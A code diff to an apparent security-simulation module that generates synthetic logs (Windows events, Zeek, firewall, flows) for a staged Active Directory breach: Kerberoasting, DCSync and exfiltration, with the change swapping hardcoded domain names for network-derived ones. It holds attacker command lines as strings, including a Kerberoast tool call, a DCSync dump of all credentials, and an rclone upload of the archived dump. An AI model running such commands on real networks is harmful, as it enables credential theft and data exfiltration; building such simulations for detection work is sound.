@@ -7,13 +7,21 @@ import numpy as np
 
 from breachscope.simulate import clock
 from breachscope.simulate.config import SimConfig
-from breachscope.simulate.network import DOMAIN, FQDN, PUBLIC_NAT, REALM, Network
+from breachscope.simulate.network import Network
 from breachscope.simulate.noise.windows import DOMAIN_GUID, DOMAIN_OBJECT, DS_REPLICATION, DS_REPLICATION_ALL
 from breachscope.simulate.story import Story
 
-SPNS = (("svc_sql", "MSSQLSvc/BI01.corp.example.jp:1433"), ("svc_backup", "BackupExec/BKP01.corp.example.jp"),
-        ("svc_bi", "HTTP/bi01.corp.example.jp"), ("svc_scan", "scan/PRN01.corp.example.jp"),
-        ("svc_wsus", "HTTP/wsus01.corp.example.jp"))
+
+def service_principals(net: Network) -> list[tuple[str, str]]:
+    """(service account, SPN) pairs the attacker roasts: SQL on the BI server, backup, BI web, scanning, WSUS
+    (each account found by its name's ending, else the services in order)."""
+    f, h, services = net.fqdn, net.host, net.spec.accounts.services
+    wanted = (("sql", f"MSSQLSvc/{h('bi').name}.{f}:1433"), ("backup", f"BackupExec/{h('backup').name}.{f}"),
+              ("bi", f"HTTP/{h('bi').name.lower()}.{f}"), ("scan", f"scan/{h('printer').name}.{f}"),
+              ("wsus", f"HTTP/{h('wsus').name.lower()}.{f}"))
+    return [(next((s for s in services if s.endswith(key)), services[i % len(services)]), spn)
+            for i, (key, spn) in enumerate(wanted)]
+
 UPLOAD_IP = "192.0.2.88"
 UPLOAD_NAME = "files.example.org"
 
@@ -21,35 +29,37 @@ UPLOAD_NAME = "files.example.org"
 def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) -> dict:
     ws = net.workstations[min(23, len(net.workstations) - 1)]
     user = net.owner_of[ws.name]
-    dc = net.hosts["DC01"]
+    dc = net.with_role("dc")[0]
+    spns = service_principals(net)
+    dom, realm = net.domain, net.realm
     accounts = {u.sam: u for u in net.users}
     t = clock.jst(2025, 2, 24, 14, 2, 11.0)
     first = t
     tag = "episode:ad-2020:kerberoasting"
     _proc(story, rng, t - 3 * clock.US, ws.name, "C:\\Users\\Public\\r.exe", "r.exe kerberoast /rc4opsec /nowrap",
-          f"{DOMAIN}\\{user}", tag)
-    for i, (svc, spn) in enumerate(SPNS):
+          f"{dom}\\{user}", tag)
+    for i, (svc, spn) in enumerate(spns):
         ts = t + i * 1_700_000
         sport = int(rng.integers(49152, 65536))
         story.win(ts, dc.name, 4769, [
-            ("TargetUserName", f"{user}@{REALM}"), ("TargetDomainName", REALM), ("ServiceName", svc),
+            ("TargetUserName", f"{user}@{realm}"), ("TargetDomainName", realm), ("ServiceName", svc),
             ("ServiceSid", accounts[svc].sid), ("TicketOptions", "0x40810000"), ("TicketEncryptionType", "0x17"),
             ("IpAddress", f"::ffff:{ws.ip}"), ("IpPort", str(sport)), ("Status", "0x0"),
             ("LogonGuid", "{" + rng.bytes(16).hex() + "}"), ("TransmittedServices", "-")], tag)
         uid = story.conn(ts - 2_000, ws.ip, sport, dc.ip, 88, "tcp", "krb_tcp", 0.01, 1_450, 1_630, tag=tag)
         story.zeek("kerberos", ts, {"uid": uid, "id.orig_h": ws.ip, "id.orig_p": str(sport), "id.resp_h": dc.ip,
-                                    "id.resp_p": "88", "request_type": "TGS", "client": f"{user}/{REALM}",
+                                    "id.resp_p": "88", "request_type": "TGS", "client": f"{user}/{realm}",
                                     "service": spn, "success": "T", "error_msg": "-",
                                     "till": clock.epoch_s6(np.array([ts + 10 * clock.HOUR]))[0].as_py(),
                                     "cipher": "rc4-hmac", "forwardable": "T", "renewable": "T"}, tag)
     t = clock.jst(2025, 2, 25, 10, 47, 30.0)
     tag = "episode:ad-2020:dcsync"
-    dcsync = accounts["svc_backup"]
+    dcsync = accounts[spns[1][0]]  # the backup service account: it may replicate
     _proc(story, rng, t - 5 * clock.US, ws.name, "C:\\Users\\Public\\m.exe",
-          f"m.exe \"lsadump::dcsync /domain:{FQDN} /all /csv\" exit", f"{DOMAIN}\\{user}", tag)
+          f"m.exe \"lsadump::dcsync /domain:{net.fqdn} /all /csv\" exit", f"{dom}\\{user}", tag)
     story.win(t, dc.name, 4624, [
         ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"), ("SubjectLogonId", "0x0"),
-        ("TargetUserSid", dcsync.sid), ("TargetUserName", dcsync.sam), ("TargetDomainName", DOMAIN),
+        ("TargetUserSid", dcsync.sid), ("TargetUserName", dcsync.sam), ("TargetDomainName", dom),
         ("TargetLogonId", "0x" + rng.bytes(3).hex()), ("LogonType", "3"), ("LogonProcessName", "Kerberos"),
         ("AuthenticationPackageName", "Kerberos"), ("WorkstationName", "-"),
         ("LogonGuid", "{" + rng.bytes(16).hex() + "}"), ("TransmittedServices", "-"), ("LmPackageName", "-"),
@@ -59,7 +69,7 @@ def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) 
         ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"), ("ElevatedToken", "%%1842")], tag)
     for i, guid in enumerate((DS_REPLICATION, DS_REPLICATION_ALL)):
         story.win(t + (i + 1) * 200_000, dc.name, 4662, [
-            ("SubjectUserSid", dcsync.sid), ("SubjectUserName", dcsync.sam), ("SubjectDomainName", DOMAIN),
+            ("SubjectUserSid", dcsync.sid), ("SubjectUserName", dcsync.sam), ("SubjectDomainName", dom),
             ("SubjectLogonId", "0x" + rng.bytes(3).hex()), ("ObjectServer", "DS"), ("ObjectType", f"%{DOMAIN_OBJECT}"),
             ("ObjectName", f"%{DOMAIN_GUID}"), ("OperationType", "Object Access"), ("HandleId", "0x0"),
             ("AccessList", "%%7688\r\n\t\t\t\t"), ("AccessMask", "0x100"),
@@ -75,20 +85,20 @@ def build(story: Story, net: Network, cfg: SimConfig, rng: np.random.Generator) 
     t = clock.jst(2025, 2, 26, 9, 58, 2.0)
     tag = "episode:ad-2020:exfiltration"
     _proc(story, rng, t - 60 * clock.US, ws.name, "C:\\Users\\Public\\7za.exe",
-          "7za.exe a -p C:\\Users\\Public\\d.7z C:\\Users\\Public\\dcsync.csv", f"{DOMAIN}\\{user}", tag)
+          "7za.exe a -p C:\\Users\\Public\\d.7z C:\\Users\\Public\\dcsync.csv", f"{dom}\\{user}", tag)
     _proc(story, rng, t - 2 * clock.US, ws.name, "C:\\Users\\Public\\rclone.exe",
-          "rclone.exe copy C:\\Users\\Public\\d.7z remote:inbox --no-check-certificate", f"{DOMAIN}\\{user}", tag)
+          "rclone.exe copy C:\\Users\\Public\\d.7z remote:inbox --no-check-certificate", f"{dom}\\{user}", tag)
     size = int(rng.integers(30_000_000, 60_000_000))
     uid = story.conn(t, ws.ip, sport + 1, UPLOAD_IP, 443, "tcp", "ssl", 88.0, size, 41_000, tag=tag)
     story.ssl(t + 30_000, uid, ws.ip, sport + 1, UPLOAD_IP, 443, UPLOAD_NAME, tag)
     cid = 210_000_001
     story.asa(t, "6-302013", f"Built outbound TCP connection {cid} for outside:{UPLOAD_IP}/443 ({UPLOAD_IP}/443) to "
-              f"inside:{ws.ip}/{sport + 1} ({PUBLIC_NAT}/{sport + 1})", tag)
+              f"inside:{ws.ip}/{sport + 1} ({net.public_nat}/{sport + 1})", tag)
     story.asa(t + 88 * clock.US, "6-302014", f"Teardown TCP connection {cid} for outside:{UPLOAD_IP}/443 to inside:"
               f"{ws.ip}/{sport + 1} duration 0:01:28 bytes {size + 41_000} TCP FINs from inside", tag)
     story.flow(t, t + 88 * clock.US, ws.ip, UPLOAD_IP, sport + 1, 443, 6, size, size // 1400, tag)
     return {"workstation": {"name": ws.name, "ip": ws.ip}, "user": user, "domain_controller": dc.name,
-            "kerberoasted_accounts": [s for s, _ in SPNS], "dcsync_account": dcsync.sam,
+            "kerberoasted_accounts": [s for s, _ in spns], "dcsync_account": dcsync.sam,
             "upload": {"ip": UPLOAD_IP, "name": UPLOAD_NAME, "bytes": size}, "start": int(first)}
 
 
